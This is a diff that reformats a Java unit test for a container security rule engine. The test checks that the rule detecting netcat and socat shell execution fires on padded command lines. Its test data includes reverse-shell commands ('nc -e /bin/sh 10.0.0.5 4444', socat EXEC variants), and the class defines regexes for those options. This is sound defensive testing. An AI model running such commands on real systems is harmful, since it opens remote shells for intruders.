@@ -16,49 +16,59 @@ import org.junit.jupiter.params.provider.ValueSource;
  * two regexes they guard.
  */
 class HostileCommandLineTest {
-    private static final RuleEngine ENGINE = new RuleEngine(RuleLoader.load(RuleFiles.bundled()).ruleSet());
-    /** The rule's regexes as they were before the pre-checks, run through the engine CEL itself uses. */
-    private static final Pattern OPTION = Pattern.compile("\\s-[a-zA-Z]*[ec](\\s|$)");
-    private static final Pattern SOCAT = Pattern.compile("(?i)\\s(exec|system):");
-    private static final Pattern NCAT = Pattern.compile("\\s--(sh-|lua-)?exec(=|\\s|$)");
+  private static final RuleEngine ENGINE =
+      new RuleEngine(RuleLoader.load(RuleFiles.bundled()).ruleSet());
 
-    /**
-     * 64 KiB of the filler as /proc would show it: valid UTF-8 decoded, every other byte as the
-     * four characters {@code \xNN} (the 0xFF case is 256 Ki characters).
-     */
-    private static String filler(String kind) {
-        return switch (kind) {
-            case "printable" -> "a".repeat(64 * 1024);
-            case "control" -> "\u0001".repeat(64 * 1024);
-            case "0xFF" -> "\\xff".repeat(64 * 1024);
-            case "options" -> " -a".repeat(64 * 1024 / 3);
-            default -> throw new IllegalArgumentException(kind);
-        };
-    }
+  /**
+   * The rule's regexes as they were before the pre-checks, run through the engine CEL itself uses.
+   */
+  private static final Pattern OPTION = Pattern.compile("\\s-[a-zA-Z]*[ec](\\s|$)");
 
-    @SuppressWarnings("unchecked")
-    private static List<String> fired(String cmdline) {
-        Map<String, Object> event = Fixtures.event("exec_nc_e_in_container");
-        Map<String, Object> process = new HashMap<>((Map<String, Object>) event.get("process"));
-        process.put("cmdline", cmdline);
-        event.put("process", process);
-        return Fixtures.firedIds(ENGINE, event);
-    }
+  private static final Pattern SOCAT = Pattern.compile("(?i)\\s(exec|system):");
+  private static final Pattern NCAT = Pattern.compile("\\s--(sh-|lua-)?exec(=|\\s|$)");
 
-    @ParameterizedTest
-    @ValueSource(strings = {"printable", "control", "0xFF", "options"})
-    void aHugeHostileCommandLineStillAlertsWhereverTheOptionSits(String kind) {
-        String junk = filler(kind);
-        List<String> alert = List.of("netcat_program_exec_in_container");
-        assertEquals(alert, fired("nc " + junk + " -e /bin/sh 10.0.0.5 4444"), "option after the junk");
-        assertEquals(alert, fired("nc -e /bin/sh " + junk + " 10.0.0.5 4444"), "option before the junk");
-        assertEquals(alert, fired("nc " + junk + " -lvc sh"), "a bundle ending in c");
-        assertEquals(alert, fired("socat " + junk + " TCP:10.0.0.5:4444 EXEC:/bin/sh"), "socat's exec address");
-        assertEquals(List.of(), fired("nc " + junk + " 10.0.0.5 4444"), "no option: no alert");
-    }
+  /**
+   * 64 KiB of the filler as /proc would show it: valid UTF-8 decoded, every other byte as the four
+   * characters {@code \xNN} (the 0xFF case is 256 Ki characters).
+   */
+  private static String filler(String kind) {
+    return switch (kind) {
+      case "printable" -> "a".repeat(64 * 1024);
+      case "control" -> "\u0001".repeat(64 * 1024);
+      case "0xFF" -> "\\xff".repeat(64 * 1024);
+      case "options" -> " -a".repeat(64 * 1024 / 3);
+      default -> throw new IllegalArgumentException(kind);
+    };
+  }
 
-    @ParameterizedTest
-    @CsvSource(delimiter = '|', quoteCharacter = '"', value = {
+  @SuppressWarnings("unchecked")
+  private static List<String> fired(String cmdline) {
+    Map<String, Object> event = Fixtures.event("exec_nc_e_in_container");
+    Map<String, Object> process = new HashMap<>((Map<String, Object>) event.get("process"));
+    process.put("cmdline", cmdline);
+    event.put("process", process);
+    return Fixtures.firedIds(ENGINE, event);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"printable", "control", "0xFF", "options"})
+  void aHugeHostileCommandLineStillAlertsWhereverTheOptionSits(String kind) {
+    String junk = filler(kind);
+    List<String> alert = List.of("netcat_program_exec_in_container");
+    assertEquals(alert, fired("nc " + junk + " -e /bin/sh 10.0.0.5 4444"), "option after the junk");
+    assertEquals(
+        alert, fired("nc -e /bin/sh " + junk + " 10.0.0.5 4444"), "option before the junk");
+    assertEquals(alert, fired("nc " + junk + " -lvc sh"), "a bundle ending in c");
+    assertEquals(
+        alert, fired("socat " + junk + " TCP:10.0.0.5:4444 EXEC:/bin/sh"), "socat's exec address");
+    assertEquals(List.of(), fired("nc " + junk + " 10.0.0.5 4444"), "no option: no alert");
+  }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      quoteCharacter = '"',
+      value = {
         "nc -e /bin/sh 10.0.0.5 4444",
         "nc\t-e /bin/sh",
         "nc 10.0.0.5 4444 -c",
@@ -74,10 +84,13 @@ class HostileCommandLineTest {
         "socat tcp-listen:4444 exec",
         "socat tcp:10.0.0.5:4444 stdio:",
         "nc -e:",
-    })
-    void thePreChecksDecideAsTheRegexesAlone(String cmdline) {
-        boolean regexes = OPTION.matcher(cmdline).find() || SOCAT.matcher(cmdline).find()
+      })
+  void thePreChecksDecideAsTheRegexesAlone(String cmdline) {
+    boolean regexes =
+        OPTION.matcher(cmdline).find()
+            || SOCAT.matcher(cmdline).find()
             || NCAT.matcher(cmdline).find();
-        assertEquals(regexes ? List.of("netcat_program_exec_in_container") : List.of(), fired(cmdline), cmdline);
-    }
+    assertEquals(
+        regexes ? List.of("netcat_program_exec_in_container") : List.of(), fired(cmdline), cmdline);
+  }
 }
